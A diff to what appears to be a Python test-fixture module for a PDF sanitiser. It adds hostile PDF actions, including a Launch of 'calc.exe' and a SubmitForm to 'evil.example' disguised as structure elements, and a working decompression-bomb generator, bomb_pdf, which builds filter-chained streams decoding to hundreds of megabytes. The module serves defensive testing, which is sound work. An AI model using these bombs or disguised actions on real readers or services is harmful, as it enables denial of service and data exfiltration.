@@ -4,12 +4,15 @@ Chromium and one compiled by Typst (when the bench extra is installed)."""
 
 from __future__ import annotations
 
+import base64
+import binascii
 import functools
 import io
 import shutil
 import subprocess
 import tempfile
-from collections.abc import Callable
+import zlib
+from collections.abc import Callable, Sequence
 from concurrent.futures import ProcessPoolExecutor
 from functools import cache
 from multiprocessing import get_context
@@ -367,7 +370,9 @@ def hostile_pdf(note_appearance: bool = True) -> bytes:
     bring (extensions.md 12: what append, prepend and placing must not keep): page-open
     JavaScript, Launch, javascript: and file: links, SubmitForm, GoToR, ImportData, a Named
     action, an attached .exe, RichMedia, Screen, Sound and Movie annotations, an orphan widget,
-    a good link whose action chains JavaScript (/Next), associated files; and what it keeps: an
+    a good link whose action chains JavaScript (/Next), associated files, presentation steps
+    whose actions pass for something else (a bogus /P, a /Type other than /Action), actions and
+    an attached file as the keys of /Nums and /Names arrays (page's and form's); and what it keeps: an
     https link, a mailto link and a link to its page 2, each tagged (a Link element and its OBJR).
     Its catalog has an /OpenAction, JavaScript and an embedded file in its names tree. Its pages
     draw only shapes (no font): pdf-a takes them, unless its note has no appearance stream
@@ -393,6 +398,15 @@ def hostile_pdf(note_appearance: bool = True) -> bytes:
     mark.AF = Array([document.make_indirect(attached)])
     mark.Private = script("app.alert('in a form')")
     first.obj.Resources = Dictionary(XObject=Dictionary(Mark=mark))
+    # Actions a reader runs as it steps through the page, dressed up as something else: a /P (as a
+    # structure element has) or a /Type of their own. And actions where a number or name tree has
+    # its keys, which are not values to be checked.
+    launch = Dictionary(S=Name.Launch, F=String("calc.exe"), P=0)
+    submit = Dictionary(Type=Name.StructElem, S=Name.SubmitForm, F=String("https://evil.example/steps"))
+    first.obj.PresSteps = document.make_indirect(Dictionary(Type=Name.NavNode, NA=launch, PA=submit))
+    for holder in (first.obj, mark):
+        holder.Nums = Array([document.make_indirect(launch), 0, document.make_indirect(attached), 1])
+        holder.Names = Array([script("app.alert('a key')"), String("k")])
     first.obj.Contents = document.make_stream(b"/Artifact BMC q /Mark Do Q EMC " + first.obj.Contents.read_bytes())
 
     def annotation(subtype: str, y: float, **entries: object) -> pikepdf.Object:
@@ -491,3 +505,148 @@ def cyclic_form_pdf(draws_itself: bool = True) -> bytes:
     out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
     out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
     return bytes(out)
+
+
+# --- Streams behind filter chains (decompression bombs: engine.media.stream_sizes) -------------
+
+
+def lzw_encoded(data: bytes) -> bytes:
+    """`data` compressed with PDF's LZW (ISO 32000-1 7.4.4, EarlyChange 1): codes of 9 to 12 bits,
+    a clear code first and whenever the table fills, the end code last."""
+    codes = _LzwBits()
+    table = {bytes([n]): n for n in range(256)}
+    codes.emit(256)
+    word = b""
+    for byte in data:
+        longer = word + bytes([byte])
+        if longer in table:
+            word = longer
+            continue
+        codes.emit(table[word])
+        table[longer] = codes.added()
+        if len(table) + 2 >= 4095:  # 256 and 257 are in the table too
+            codes.emit(256)
+            table = {bytes([n]): n for n in range(256)}
+        word = bytes([byte])
+    if word:
+        codes.emit(table[word])
+    codes.emit(257)
+    return codes.written()
+
+
+def lzw_run(byte: int, count: int) -> bytes:
+    """At least `count` copies of `byte` in LZW, written from the codes themselves (a run makes
+    each code one byte longer than the last: some 2,700 times smaller than what it decodes to)."""
+    codes = _LzwBits()
+    made = 0
+    while made < count:
+        codes.emit(256)
+        codes.emit(byte)
+        made, length = made + 1, 1
+        while codes.size < 4094 and made < count:
+            # The entry just made (the last string and its first byte) is the next string.
+            codes.emit(codes.added())
+            length += 1
+            made += length
+    codes.emit(257)
+    return codes.written()
+
+
+class _LzwBits:
+    """Codes written most significant bit first, at the width a reader expects (EarlyChange 1)."""
+
+    def __init__(self) -> None:
+        self.out = bytearray()
+        self.bits = self.count = 0
+        self.width, self.size = 9, 258
+
+    def emit(self, code: int) -> None:
+        self.bits = (self.bits << self.width) | code
+        self.count += self.width
+        while self.count >= 8:
+            self.count -= 8
+            self.out.append((self.bits >> self.count) & 0xFF)
+        self.bits &= (1 << self.count) - 1
+        if code == 256:
+            self.width, self.size = 9, 258
+
+    def added(self) -> int:
+        """A table entry made (the reader makes it as it reads the next code, one behind): its code."""
+        self.size += 1
+        if self.size + 1 > 1 << self.width and self.width < 12:
+            self.width += 1
+        return self.size - 1
+
+    def written(self) -> bytes:
+        return bytes(self.out + (bytes([(self.bits << (8 - self.count)) & 0xFF]) if self.count else b""))
+
+
+def run_length_encoded(data: bytes) -> bytes:
+    """`data` compressed with RunLength (ISO 32000-1 7.4.5)."""
+    out, at = bytearray(), 0
+    while at < len(data):
+        end = at
+        while end < len(data) and end - at < 128 and data[end] == data[at]:
+            end += 1
+        if end - at >= 2:
+            out += bytes([257 - (end - at), data[at]])
+            at = end
+            continue
+        end = at + 1
+        while end < len(data) and end - at < 128 and not (end + 1 < len(data) and data[end] == data[end + 1]):
+            end += 1
+        out += bytes([end - at - 1]) + data[at:end]
+        at = end
+    return bytes(out + b"\x80")
+
+
+ENCODERS: dict[str, Callable[[bytes], bytes]] = {
+    "FlateDecode": lambda data: zlib.compress(data, 9),
+    "ASCIIHexDecode": lambda data: binascii.hexlify(data) + b">",
+    "ASCII85Decode": lambda data: base64.a85encode(data, wrapcol=72) + b"~>",
+    "LZWDecode": lzw_encoded,
+    "RunLengthDecode": run_length_encoded,
+}
+
+
+def encoded(data: bytes, chain: Sequence[str]) -> bytes:
+    """`data` encoded so that the filters `chain` (in a stream's /Filter order) decode it."""
+    for name in reversed(chain):
+        data = ENCODERS[name](data)
+    return data
+
+
+def spaces(chain: Sequence[str], megabytes: int) -> bytes:
+    """`megabytes` MB of spaces encoded for `chain`, never held whole: the last filter's part
+    (what is decoded last) is made from runs, the others encode what it made."""
+    count, last = megabytes * 1024 * 1024, chain[-1]
+    if last == "FlateDecode":
+        deflater = zlib.compressobj(9)
+        block = b" " * (1 << 20)
+        inner = b"".join(deflater.compress(block) for _ in range(megabytes)) + deflater.flush()
+    elif last == "LZWDecode":
+        inner = lzw_run(0x20, count)
+    elif last == "RunLengthDecode":
+        inner = b"\x81 " * (count // 128) + b"\x80"
+    else:
+        raise ValueError(f"no bomb of {last} alone: it decodes to less than it is")
+    return encoded(inner, chain[:-1])
+
+
+def bomb_pdf(chain: Sequence[str], megabytes: int = 300, image: bool = False) -> bytes:
+    """A one-page PDF whose content stream decodes, through the filters `chain`, to `megabytes` MB
+    of spaces (which PDFium inflates whole before it reads them); `image`: the stream says it is
+    an image (/Subtype /Image, as images are not counted) while it is the page's content."""
+    document = pikepdf.new()
+    document.add_blank_page(page_size=(200, 200))
+    stream = pikepdf.Stream(document, spaces(chain, megabytes))
+    stream.Filter = pikepdf.Array([pikepdf.Name("/" + name) for name in chain])
+    if image:
+        stream.Type, stream.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
+        stream.Width = stream.Height = 1
+        stream.ColorSpace, stream.BitsPerComponent = pikepdf.Name.DeviceGray, 8
+        document.pages[0].obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=stream))
+    document.pages[0].obj.Contents = document.make_indirect(stream)
+    out = io.BytesIO()
+    document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+    return out.getvalue()
